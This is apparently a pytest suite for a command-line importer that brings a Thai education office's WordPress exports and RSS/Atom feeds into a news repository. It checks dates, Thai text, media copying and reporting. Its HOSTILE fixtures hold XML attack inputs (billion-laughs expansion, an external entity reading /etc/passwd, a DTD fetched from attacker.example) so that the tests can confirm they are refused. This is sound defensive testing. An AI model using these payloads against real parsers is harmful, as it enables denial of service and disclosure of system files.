"""`khaosan import wordpress` and `khaosan import feed` on a real-shaped export (issue 14, item 4).

tests/fixtures/wordpress/export.xml is a small Thai WXR 1.2 file laid out as WordPress 6.4
writes it: two authors, categories and tags, a Gutenberg post with a featured image, a
resized image, a [caption] shortcode and a file block; a classic-editor post with an
[embed], a gallery, a form shortcode, a script, an iframe and inline handlers; a draft,
a scheduled post, a post after the office adopted Khaosan, a private post, an attachment,
a page and a menu item. The uploads folder is made here: the featured image is a JPEG
with GPS and a camera owner, the agenda a real PDF; one image is missing on purpose.
"""

from __future__ import annotations

import json
import re
import unicodedata
from pathlib import Path

import pytest
from support.cli import run_cli
from support.items import ATTACHMENT_BYTES
from support.site import project_copy
from support.wordpress import EXPORT, ITEMS, NOW, make_uploads

from workflow.core.validate import parse_item

SITE_FROM = "นำเข้าจาก WordPress (สพป.ภูผาหมอก เขต 1 (เว็บไซต์เดิม))"
ACTIVE = re.compile(r"<script|<iframe|<object|<embed|javascript:|\bon[a-z]+\s*=|tracker\.example|steal\(|track\(", re.I)


def import_export(root: Path, uploads: Path | None, *extra: str, export: Path = EXPORT):
    args = ["import", "wordpress", str(export), "--root", str(root), "--now", NOW, *extra]
    if uploads is not None:
        args += ["--uploads", str(uploads)]
    result = run_cli(args)
    assert "Traceback" not in result.output
    return result


@pytest.fixture
def imported(tmp_path):
    root = project_copy(tmp_path)
    result = import_export(root, make_uploads(tmp_path))
    assert result.code == 0, result.output
    return root, result


def data_of(root: Path, rel: str) -> tuple[dict, str]:
    item, _, problems = parse_item(rel, (root / rel).read_bytes())
    assert item is not None, problems
    return item.data, item.body


def content_files(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in (root / "content").rglob("*") if p.is_file()}


def test_published_posts_keep_the_time_the_earlier_site_published_them(imported):
    root, result = imported
    assert {rel for rel in ITEMS.values() if (root / rel).is_file()} == set(ITEMS.values())
    data, _ = data_of(root, ITEMS[101])
    assert data["earlier_site"] == {
        "published_at": "2025-06-12T14:30:00+07:00",  # post_date_gmt 07:30 in Bangkok time
        "url": "https://old.phuphamok1.example/2025/06/12/"
        "%e0%b8%9b%e0%b8%a3%e0%b8%b0%e0%b8%8a%e0%b8%b8%e0%b8%a1%e0%b8%9c%e0%b8%b9%e0%b9%89%e0%b8%9a%e0%b8%a3%e0%b8%b4%e0%b8%ab%e0%b8%b2%e0%b8%a3/",
        "from": SITE_FROM,
    }
    assert data["produced_at"] == "2025-06-12T14:30:00+07:00"
    assert data["title"] == "ประชุมผู้บริหารสถานศึกษา ครั้งที่ 6/2568"
    assert (data["news_type"], data["plan"], data["format"], data["source"]) == (
        "general",
        "proactive",
        "press-release",
        "document",
    )
    assert data["author"] == "somchai.p" and data["topic_group"] == "admin" and data["channels"] == ["website"]
    assert data["tags"] == ["ข่าวประชาสัมพันธ์", "ประชุม"]
    lunch, _ = data_of(root, ITEMS[102])
    assert lunch["earlier_site"]["published_at"] == "2025-08-20T11:05:00+07:00"
    assert lunch["title"] == "ติดตามโครงการอาหารกลางวัน – โรงเรียนบ้านหมอกงาม"  # &#8211; decoded
    for post in ITEMS:
        assert data_of(root, ITEMS[post])[0]["approvals"] == []  # nobody signed an import
    assert "ผู้เขียน งานประชาสัมพันธ์ (prnews) → somchai.p" in result.out  # the choices are said
    assert "khaosan approve" in result.out  # and the next step


def test_drafts_scheduled_and_late_posts_are_not_back_dated(imported):
    root, result = imported
    draft, _ = data_of(root, ITEMS[103])
    assert "earlier_site" not in draft and "publish_at" not in draft
    assert draft["produced_at"] == "2026-10-02T10:12:40+07:00"  # its local time: a draft has no GMT time
    scheduled, _ = data_of(root, ITEMS[104])
    assert "earlier_site" not in scheduled
    assert scheduled["publish_at"] == "2026-12-15T09:00:00+07:00"
    assert scheduled["produced_at"] == "2026-11-20T16:40:00+07:00"  # its last edit, not its future date
    after, _ = data_of(root, ITEMS[105])  # published on the adoption day: KS221 would refuse the claim
    assert "earlier_site" not in after and after["produced_at"] == "2026-11-25T08:30:00+07:00"
    assert "หลังวันเริ่มใช้ระบบ: นำเข้าโดยไม่มี earlier_site" in result.out
    for left_out in ("บันทึกภายใน: รายชื่อผู้ประสานงาน", "เกี่ยวกับเรา"):  # private post, page
        assert f"KS239 ไม่นำเข้า: {left_out}" in result.out
    assert not list((root / "content").rglob("*contacts*")) and not list((root / "content").rglob("*about*"))


def test_thai_text_comes_through_character_for_character(imported):
    root, _ = imported
    exported = EXPORT.read_text(encoding="utf-8")
    paragraphs = re.findall(r"<p>([^<]+)</p>", exported.split("<wp:post_id>101</wp:post_id>")[0])
    assert len(paragraphs) == 2
    _, body = data_of(root, ITEMS[101])
    for paragraph in [*paragraphs, "การรับนักเรียนปีการศึกษา 2569", "การพัฒนาครูด้านการสอนอ่านเขียนภาษาไทย"]:
        assert unicodedata.is_normalized("NFC", paragraph)
        assert paragraph in body
    assert body.encode("utf-8").count("ผู้อำนวยการสำนักงานเขตพื้นที่การศึกษาประถมศึกษาภูผาหมอก".encode()) == 1
    _, lunch = data_of(root, ITEMS[102])
    assert "โครงการอาหารกลางวัน  \nนักเรียนได้รับอาหารครบห้าหมู่ทุกวัน" in lunch  # a classic line break kept


def test_no_script_frame_or_handler_reaches_a_file(imported):
    root, _ = imported
    for rel in ITEMS.values():
        text = (root / rel).read_text(encoding="utf-8")
        assert not ACTIVE.search(text), (rel, ACTIVE.search(text))
    _, body = data_of(root, ITEMS[102])
    assert "[เว็บไซต์ สพฐ.](https://www.obec.go.th/)" in body  # a safe link stays a link
    assert "<https://www.youtube.com/watch?v=lunch2568>" in body  # the embed became a plain link
    assert "คลิกที่นี่" in body and "](javascript" not in body  # the javascript: link is text now


def test_media_are_copied_from_uploads_and_referenced(imported, tmp_path):
    root, _ = imported
    data, body = data_of(root, ITEMS[101])
    # the featured image and the resized copy in the text are one file, brought once as the original
    assert data["images"] == [
        {
            "file": "images/2568/meeting.jpg",
            "alt": "ผู้บริหารสถานศึกษานั่งประชุมในหอประชุมสำนักงานเขตพื้นที่",
            "credit": "สพป.ภูผาหมอก เขต 1 (เว็บไซต์เดิม)",
            "caption": "ผู้บริหารสถานศึกษาร่วมประชุม",  # the figure's caption in the text
        }
    ]
    assert data["attachments"] == [{"file": "files/2568/agenda-6-2568.pdf", "title": "ระเบียบวาระการประชุม ครั้งที่ 6/2568"}]
    assert "[ระเบียบวาระการประชุม ครั้งที่ 6/2568](files/2568/agenda-6-2568.pdf)" in body
    assert "ดาวน์โหลด" not in body and "![" not in body  # images live in images:, not in the text
    # copied as they were: the build scrubs what it publishes, the repository keeps the original
    assert (root / "content/images/2568/meeting.jpg").read_bytes() == (
        tmp_path / "uploads/2025/06/meeting.jpg"
    ).read_bytes()
    assert (root / "content/files/2568/agenda-6-2568.pdf").read_bytes() == ATTACHMENT_BYTES


def test_the_report_says_what_could_not_be_brought(imported):
    _, result = imported
    out = result.out
    assert re.search(r"KS236 ภาพ \S+/wp-content/uploads/2025/06/school-visit\.jpg: ไม่พบ", out)
    for said in (
        "KS237 [caption] เป็นคำบรรยายภาพ",
        "KS237 [embed] https://www.youtube.com/watch?v=lunch2568 แทนด้วยลิงก์",
        "KS237 [gallery] ลบออก",
        "KS237 [contact-form-7] ลบออก",
        "KS237 <iframe> https://www.facebook.com/",
        "KS237 <script> ลบออก",
        "KS237 ตัวจัดการเหตุการณ์ onclick ใน <p> ลบออก",
        "KS237 ลิงก์แบบ javascript: ใน <a> ลบออก",
    ):
        assert said in out, said
    assert "เขียนรายการใหม่ 5 รายการ" in out and "คัดลอกไฟล์ 2 ไฟล์" in out and "นำมาไม่ได้ 1" in out


def test_a_second_run_overwrites_nothing_and_says_so(imported, tmp_path):
    root, _ = imported
    before = content_files(root)
    (root / ITEMS[101]).write_text("แก้ไขแล้วโดยเจ้าหน้าที่\n", encoding="utf-8")  # a person's edit since
    before[ITEMS[101]] = (root / ITEMS[101]).read_bytes()
    again = import_export(root, tmp_path / "uploads")
    assert again.code == 0, again.output
    assert content_files(root) == before
    assert "เขียนรายการใหม่ 0 รายการ, มีอยู่แล้ว 5" in again.out
    for rel in ITEMS.values():
        assert f"KS238 มีอยู่แล้ว ไม่เขียนทับ: {rel}" in again.out


def test_an_existing_file_of_another_name_is_never_replaced(tmp_path):
    """An office's own image already at the copy's name keeps its bytes; the copy takes the next name."""
    root = project_copy(tmp_path)
    own = root / "content/images/2568/meeting.jpg"
    own.parent.mkdir(parents=True)
    own.write_bytes(b"\xff\xd8 the office's own photo")
    assert import_export(root, make_uploads(tmp_path)).code == 0
    assert own.read_bytes() == b"\xff\xd8 the office's own photo"
    data, _ = data_of(root, ITEMS[101])
    assert data["images"][0]["file"] == "images/2568/meeting-2.jpg"


def test_the_imported_items_pass_check(imported):
    root, _ = imported
    result = run_cli(["check", "--root", str(root), "--now", NOW])
    assert result.code == 0, result.output
    assert "ข้อผิดพลาด 0" in result.err and "รอลงนาม 5 รายการ" in result.err
    gate = run_cli(["check", "--publish", "--root", str(root), "--now", NOW, "--format", "json"])
    codes = {p["code"] for p in json.loads(gate.out)["problems"] if p["severity"] == "error"}
    assert codes == {"KS305"}  # only the sign-offs a person gives afterwards


def test_without_uploads_nothing_is_fetched_and_every_file_is_reported(tmp_path):
    root = project_copy(tmp_path)
    result = import_export(root, None)
    assert result.code == 0
    assert "ไม่ได้ระบุ --uploads" in result.out
    assert not (root / "content/images/2568").exists()
    data, _ = data_of(root, ITEMS[101])
    assert "images" not in data and "attachments" not in data
    assert re.search(r"KS236 ไฟล์ \S+agenda-6-2568\.pdf: ไม่ได้ระบุ --uploads", result.out)
    assert run_cli(["check", "--root", str(root), "--now", NOW]).code == 0


def test_a_mapping_file_names_authors_and_kinds_of_news(tmp_path):
    root = project_copy(tmp_path)
    mapping = tmp_path / "map.yml"
    mapping.write_text(
        "authors:\n  prnews: kanda.s\n"
        "categories:\n  ข่าวนโยบาย: {plan: policy, topic_group: policy}\n  ข่าวประชาสัมพันธ์: {format: photo}\n",
        encoding="utf-8",
    )
    result = import_export(root, make_uploads(tmp_path), "--map", str(mapping))
    assert result.code == 0, result.output
    meeting, _ = data_of(root, ITEMS[101])
    assert (meeting["author"], meeting["format"], meeting["topic_group"]) == ("kanda.s", "photo", "admin")
    lunch, _ = data_of(root, ITEMS[102])  # by admin: no mapping, the default author
    assert (lunch["author"], lunch["plan"], lunch["topic_group"]) == ("somchai.p", "policy", "policy")
    assert "ผู้เขียน งานประชาสัมพันธ์ (prnews) → kanda.s (จากไฟล์จับคู่)" in result.out
    assert run_cli(["check", "--root", str(root), "--now", NOW]).code == 0


def test_a_mapping_that_names_nobody_is_refused(tmp_path):
    root = project_copy(tmp_path)
    mapping = tmp_path / "map.yml"
    mapping.write_text("authors:\n  prnews: somsri.x\n", encoding="utf-8")
    result = import_export(root, None, "--map", str(mapping))
    assert result.code == 2 and result.err.startswith("KS235") and "somsri.x" in result.err
    assert not (root / "content/news").exists()


def test_an_office_without_an_adoption_date_is_told_to_add_one(tmp_path):
    root = project_copy(tmp_path)
    office = root / "office.yml"
    office.write_text(re.sub(r"\n  adopted: [0-9-]+", "", office.read_text(encoding="utf-8")), encoding="utf-8")
    result = import_export(root, None)
    assert result.code == 2 and result.err.startswith("KS220") and "adopted:" in result.err
    assert not (root / "content/news").exists()


HOSTILE = {
    "billion-laughs": (
        '<?xml version="1.0"?>\n<!DOCTYPE rss [\n <!ENTITY a "ฮา">\n <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">\n'
        ' <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">\n]>\n<rss><channel><title>&c;</title></channel></rss>\n',
        "KS232",
    ),
    "external-entity": (
        '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
        "<rss><channel><title>&secret;</title></channel></rss>\n",
        "KS232",
    ),
    "external-dtd": (
        '<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">\n<rss/>\n',
        "KS232",
    ),
    "not-xml": ("<rss><channel><title>ไม่ได้ปิด</channel>\n", "KS231"),
    "a-feed": ('<?xml version="1.0"?>\n<rss version="2.0"><channel><title>ข่าว</title></channel></rss>\n', "KS234"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_or_wrong_file_is_refused_with_a_code(tmp_path, name):
    text, code = HOSTILE[name]
    root = project_copy(tmp_path)
    bad = tmp_path / f"{name}.xml"
    bad.write_text(text, encoding="utf-8")
    result = import_export(root, None, export=bad)
    assert result.code == 2 and result.err.startswith(code), result.output
    assert "/etc/passwd" not in result.out and "root:" not in result.output
    assert not (root / "content/news").exists()


def test_a_file_past_the_size_bound_is_refused_unread(tmp_path, monkeypatch):
    from workflow.edges.files import importing

    monkeypatch.setattr(importing, "MAX_EXPORT", 4096)
    root = project_copy(tmp_path)
    assert EXPORT.stat().st_size > 4096
    result = import_export(root, None)
    assert result.code == 2 and result.err.startswith("KS233")


FEEDS = EXPORT.parent  # feed-rss.xml (RSS 2.0 with content:encoded), feed-atom.xml (Atom, XHTML content)


@pytest.mark.parametrize(
    ("name", "published"), [("rss", "2025-03-03T16:15:00+07:00"), ("atom", "2025-04-01T10:00:00+07:00")]
)
def test_a_feed_is_read_the_same_way(tmp_path, name, published):
    root = project_copy(tmp_path)
    feed = FEEDS / f"feed-{name}.xml"
    result = run_cli(["import", "feed", str(feed), "--root", str(root), "--now", NOW])
    assert result.code == 0, result.output
    (written,) = list((root / "content/news/2568").glob("*.md"))
    data, body = data_of(root, written.relative_to(root).as_posix())
    assert data["earlier_site"]["published_at"] == published
    assert data["earlier_site"]["from"].startswith("นำเข้าจากฟีด")
    assert ("คณะกรรมการเขตพื้นที่การศึกษาประชุมครั้งที่ 3/2568" if name == "rss" else "**ประจำปี 2568**") in body
    assert run_cli(["check", "--root", str(root), "--now", NOW]).code == 0
    if name == "rss":  # an image only on the old server is reported, never fetched
        assert "KS236 ภาพ https://news.phuphamok1.example/img/a.jpg" in result.out


def test_uploaded_file_names_become_names_the_repository_takes():
    from workflow.edges.files.importing import ascii_name

    assert ascii_name("2025/06/IMG_0001.JPG", "x") == "IMG_0001.jpg"
    assert ascii_name("2025/06/%E0%B8%A0%E0%B8%B2%E0%B8%9E.jpg", "general-20250612-wp101-ab12cd") == (
        "general-20250612-wp101-ab12cd.jpg"
    )
    assert ascii_name("2025/06/my photo (1).png", "x") == "my-photo-1.png"


def test_links_between_imported_posts_point_at_their_items(imported):
    """The earlier site will be switched off: a link from one post to another (by its permalink,
    however spelled, or by WordPress's `?p=` id) becomes a link to the item it became, which the
    gate checks (KS721) and the site resolves; links elsewhere stay as they were."""
    root, _ = imported
    _, body = data_of(root, ITEMS[102])
    meeting, awards = (ITEMS[n].removeprefix("content/") for n in (101, 105))
    assert f"[ผลการประชุมผู้บริหารสถานศึกษา]({{filename}}/{meeting})" in body
    assert f"[การมอบเกียรติบัตรครูดีเด่น]({{filename}}/{awards})" in body
    assert "old.phuphamok1.example/2025/06" not in body and "?p=105" not in body
    assert "[เว็บไซต์ สพฐ.](https://www.obec.go.th/)" in body
